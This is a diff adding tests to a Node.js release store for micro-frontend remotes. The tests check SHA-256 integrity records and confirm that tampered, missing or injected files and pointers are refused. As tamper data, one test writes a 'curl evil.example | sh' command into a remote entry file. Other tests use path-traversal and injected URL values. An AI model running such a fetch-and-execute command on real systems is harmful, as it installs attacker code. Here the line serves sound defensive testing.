@@ -2,6 +2,7 @@
 // temporary store (the e2e suite releases, promotes and rolls back real builds over the running system).
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
+import crypto from 'node:crypto';
 import fs from 'node:fs';
 import { createRequire } from 'node:module';
 import os from 'node:os';
@@ -127,6 +128,74 @@ describe('the release store', () => {
   });
 });
 
+describe('what a release is: its files, as released', () => {
+  const tamper = (releases, version, file, text) => fs.writeFileSync(path.join(releases, 'catalog', version, file), text);
+
+  test('a release records the SHA-256 of every file it stores, as Subresource Integrity writes it', () => {
+    const releases = temporary('releases');
+    const { dir } = release(releases, '1.0.0-aaaaaaaaaaaa', distDir('first'));
+    const { digests } = store.readRelease(releases, 'catalog', '1.0.0-aaaaaaaaaaaa');
+    assert.deepEqual(Object.keys(digests), ['mf-manifest.json', 'remoteEntry.js', 'server/mf-manifest.json', 'server/remoteEntry.js']);
+    const sha256 = (file) => `sha256-${crypto.createHash('sha256').update(fs.readFileSync(path.join(dir, file))).digest('base64')}`;
+    for (const [file, digest] of Object.entries(digests)) assert.equal(digest, sha256(file), file);
+    assert.deepEqual(store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa'), []);
+  });
+
+  test('a changed, missing or added file is named, and such a version is never made live (promote, rollback)', () => {
+    const releases = temporary('releases');
+    release(releases, '1.0.0-aaaaaaaaaaaa');
+    release(releases, '1.0.0-bbbbbbbbbbbb');
+    store.promote(releases, 'catalog', '1.0.0-aaaaaaaaaaaa');
+    store.promote(releases, 'catalog', '1.0.0-bbbbbbbbbbbb');
+
+    tamper(releases, '1.0.0-aaaaaaaaaaaa', 'server/remoteEntry.js', 'require("child_process").exec("curl evil.example | sh")');
+    fs.rmSync(path.join(releases, 'catalog', '1.0.0-aaaaaaaaaaaa', 'remoteEntry.js'));
+    tamper(releases, '1.0.0-aaaaaaaaaaaa', 'extra.js', 'alert(1)');
+    const problems = store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa');
+    assert.equal(problems.length, 3, problems.join('\n'));
+    assert.match(problems[0], /^remoteEntry\.js: missing$/);
+    assert.match(problems[1], /^server\/remoteEntry\.js: its contents are not the ones released \(sha256 \S+, released \S+\)$/);
+    assert.match(problems[2], /^extra\.js: not a file of the release$/);
+    assert.throws(() => store.rollback(releases, 'catalog'), store.TamperedRelease);
+
+    tamper(releases, '1.0.0-bbbbbbbbbbbb', 'mf-manifest.json', '{"name":"catalog","exposes":[],"shared":[]}');
+    assert.throws(() => store.promote(releases, 'catalog', '1.0.0-bbbbbbbbbbbb'), /catalog 1\.0\.0-bbbbbbbbbbbb: its files do not match its release record; the live version is unchanged:\n {2}mf-manifest\.json: its contents are not the ones released/);
+    assert.equal(store.readPointer(releases, 'catalog').live, '1.0.0-bbbbbbbbbbbb', 'the pointer is untouched');
+  });
+
+  test('a version whose record has no digests (or is not a record) is refused', () => {
+    const releases = temporary('releases');
+    const { dir } = release(releases, '1.0.0-aaaaaaaaaaaa');
+    const info = JSON.parse(fs.readFileSync(path.join(dir, 'release.json'), 'utf8'));
+    delete info.digests;
+    fs.writeFileSync(path.join(dir, 'release.json'), JSON.stringify(info));
+    assert.match(store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa')[0], /records no digests of its files/);
+    fs.writeFileSync(path.join(dir, 'release.json'), JSON.stringify({ ...info, digests: { '../../host-shell/dist/index.html': 'x' } }));
+    assert.match(store.verifyVersion(releases, 'catalog', '1.0.0-aaaaaaaaaaaa')[0], /release\.json is not valid: digests/);
+    assert.throws(() => store.promote(releases, 'catalog', '1.0.0-aaaaaaaaaaaa'), store.TamperedRelease);
+  });
+
+  test("live.json is checked when read, as when written: a version that is not one never reaches the host's URLs", () => {
+    const releases = temporary('releases');
+    release(releases, '1.0.0-aaaaaaaaaaaa');
+    store.promote(releases, 'catalog', '1.0.0-aaaaaaaaaaaa');
+    const pointer = path.join(releases, 'catalog', 'live.json');
+    const good = JSON.parse(fs.readFileSync(pointer, 'utf8'));
+    const env = { RELEASES_DIR: releases, REMOTE_CATALOG_URL: 'https://cdn.example/catalog' };
+    for (const live of ['../../evil.example/x', 'https://evil.example/', '1.0.0-a?x=', 42]) {
+      fs.writeFileSync(pointer, JSON.stringify({ ...good, live }));
+      assert.throws(() => store.readPointer(releases, 'catalog'), /live\.json is not valid: live:/, String(live));
+      assert.deepEqual(store.liveVersions(releases), {});
+      assert.equal(remotesJson(env).catalog, 'https://cdn.example/catalog/mf-manifest.json', String(live));
+    }
+    fs.writeFileSync(pointer, '{"live": "1.0.0-aaaaaaaaaaaa"');
+    assert.throws(() => store.readPointer(releases, 'catalog'), /live\.json is not JSON/);
+    assert.throws(() => store.promote(releases, 'catalog', '1.0.0-aaaaaaaaaaaa'), /live\.json is not JSON/, 'a pointer that is not one is not built upon');
+    fs.writeFileSync(pointer, JSON.stringify(good));
+    assert.equal(remotesJson(env).catalog, 'https://cdn.example/catalog/1.0.0-aaaaaaaaaaaa/mf-manifest.json');
+  });
+});
+
 describe('the compatibility gate', () => {
   test('a build like the host passes (a module the host does not share, like the form library, is the remote\'s own)', () => {
     assert.deepEqual(compatibilityProblems({ remote: 'catalog', candidate: catalogBuild(), host: HOST }), []);
@@ -210,5 +279,20 @@ describe('the release commands', () => {
     assert.equal(run(releases, 'rollback', 'catalog', '--host', host).status, 1, 'nothing before the first version');
     assert.equal(run(releases, 'promote', 'payments', '1.0.0-aaaaaaaaaaaa').stderr.trim(), 'unknown remote "payments": one of catalog, booking, checkout, account');
     assert.equal(run(releases, 'check', 'catalog', '1.0.0-aaaaaaaaaaaa', '--host', releases).stderr.trim(), `${releases} is not a built host: it needs mf-manifest.json and remote-pages.json`);
+  });
+
+  test('the gate and promote refuse a version with a tampered file, naming it', () => {
+    const releases = temporary('releases');
+    const host = hostDist();
+    release(releases, '1.0.0-aaaaaaaaaaaa');
+    release(releases, '1.0.0-bbbbbbbbbbbb');
+    assert.equal(run(releases, 'promote', 'catalog', '1.0.0-aaaaaaaaaaaa', '--host', host).status, 0);
+    fs.appendFileSync(path.join(releases, 'catalog', '1.0.0-bbbbbbbbbbbb', 'server', 'remoteEntry.js'), ';globalThis.owned = true');
+    for (const command of ['check', 'promote']) {
+      const refused = run(releases, command, 'catalog', '1.0.0-bbbbbbbbbbbb', '--host', host);
+      assert.equal(refused.status, 1, command);
+      assert.match(refused.stderr, /its files do not match its release record; the live version is unchanged:\n {2}server\/remoteEntry\.js: its contents are not the ones released/, command);
+    }
+    assert.equal(store.readPointer(releases, 'catalog').live, '1.0.0-aaaaaaaaaaaa');
   });
 });
